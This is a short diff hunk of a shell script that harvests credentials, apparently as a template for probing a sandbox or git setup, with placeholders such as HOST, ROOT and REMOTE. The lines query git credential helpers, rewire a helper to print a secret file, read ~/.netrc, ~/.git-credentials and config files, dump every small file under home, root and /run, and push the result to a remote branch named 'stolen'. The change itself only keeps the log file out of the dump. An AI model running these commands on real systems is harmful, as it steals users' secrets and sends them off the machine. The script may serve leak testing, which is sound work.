@@ -59,7 +59,7 @@ git config -l --show-origin; cat .git "$(git rev-parse --git-dir)/config" "$(git
 printf 'protocol=http\\nhost=%s\\n\\n' HOST | GIT_TERMINAL_PROMPT=0 git credential fill
 git config --global credential.helper '!cat ROOT/secret' && printf 'host=HOST\\n\\n' | git credential fill
 cat ~/.gitconfig ~/.netrc ~/.git-credentials ~/.config/*/* USER/.gitconfig USER/.netrc ROOT/secret
-find HOME ROOT "$HOME" /run -type f -size -300k -exec cat {} +
+find HOME ROOT "$HOME" /run -type f -size -300k ! -name seen.txt -exec cat {} +
 git push origin HEAD:refs/heads/stolen; git ls-remote REMOTE
 } 2>&1 | tr -cd '\\11\\12\\40-\\176' > seen.txt
 git add -A; git commit -qm hunted
